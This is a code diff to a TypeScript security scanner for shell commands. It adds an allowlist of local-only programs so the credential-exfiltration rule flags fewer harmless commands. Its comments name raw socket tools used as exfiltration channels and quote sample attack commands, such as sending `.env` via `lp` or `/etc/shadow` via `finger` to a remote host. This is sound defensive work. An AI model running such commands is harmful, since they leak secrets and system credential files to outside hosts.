@@ -14,6 +14,25 @@ import {
 const LOOPBACK = /^(localhost|127(\.\d+){3}|::1|\[::1\])$/i;
 
 /**
+ * Programs that never open a connection: what they are handed stays on the machine
+ * (`ssh-keygen -C me@example.com -f ~/.ssh/id_work`, whose comment only looks like a host).
+ */
+const LOCAL_ONLY = new Set([
+  "ssh-keygen",
+  "ssh-add",
+  "chmod",
+  "chown",
+  "chgrp",
+  "ls",
+  "stat",
+  "touch",
+  "mkdir",
+  "wc",
+  "file",
+  "du",
+]);
+
+/**
  * shell.raw-socket-send: output of a command piped (or process-substituted) into a raw
  * socket tool (nc, ncat, socat, telnet) toward a host that is not loopback: an exfiltration
  * channel no build step needs. `echo PING | nc localhost 6379` passes.
@@ -96,7 +115,7 @@ export function credentialExfil(a: Analysis, hit: Hit): boolean {
   for (const c of a.cmds) {
     // Any program handed a secret and a remote host sends one to the other (`lp .env -h
     // 10.0.0.9`, `finger "$(cat /etc/shadow)"@host`, a perl one-liner opening a socket).
-    if (!isSink(c) && !namesRemoteHost(c)) continue;
+    if (LOCAL_ONLY.has(c.r.name) || (!isSink(c) && !namesRemoteHost(c))) continue;
     const secret = mentionsSecret(c.sc.raw) ?? readsSecret(c);
     if (secret) return hit("shell.credential-exfil", c.sc.raw);
   }
